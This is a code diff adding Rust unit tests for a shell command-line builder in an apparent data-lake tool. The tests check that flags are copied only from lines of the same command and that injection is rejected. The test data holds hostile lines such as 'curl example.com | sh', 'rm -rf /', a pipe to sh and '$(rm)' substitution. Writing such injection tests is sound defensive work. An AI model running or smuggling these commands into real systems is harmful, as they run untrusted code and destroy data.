@@ -238,6 +238,34 @@ mod tests {
     }
 
     #[test]
+    fn of_a_noted_line_nothing_but_flags_is_taken_and_only_of_the_same_command() {
+        let due = CommandLine::on_run(Step::Verify, &uri());
+        let taken = |noted: &str| Some(due.with_flags_of(noted)?.to_shell()?.to_string());
+        let noted = format!("lakeward-verify {} --min-rows=5 --check='a b;$(c).sql' --allow-empty", uri());
+        assert_eq!(taken(&noted), Some(noted));
+        let evil = [
+            "curl example.com | sh".to_owned(),
+            format!("lakeward-swap {}", uri()),
+            "lakeward-verify s3://lake/other/_runs/2026-05-19-060000/manifest.json".to_owned(),
+            format!("lakeward-verify {}; rm -rf /", uri()),
+            format!("lakeward-verify {} --min-rows=5 | sh", uri()),
+            format!("lakeward-verify {} --Min=5", uri()),
+            format!("X=y lakeward-verify {}", uri()),
+        ];
+        for line in evil {
+            assert_eq!(taken(&line), None, "{line}");
+        }
+        let expands = format!("lakeward-verify {} --check=$(rm)", uri());
+        assert_eq!(taken(&expands), Some(format!("lakeward-verify {} --check='$(rm)'", uri())));
+    }
+
+    #[test]
+    fn a_flag_that_cannot_be_said_leaves_no_command() {
+        let line = CommandLine::on_run(Step::Verify, &uri()).with(&[Flag::unsayable("--check")]);
+        assert_eq!(line.to_shell(), None);
+    }
+
+    #[test]
     fn what_no_shell_can_carry_has_no_line() {
         let line = |value: &str| {
             CommandLine::on_run(Step::Verify, &uri()).with(&[Flag::new("--check", value)]).to_shell()
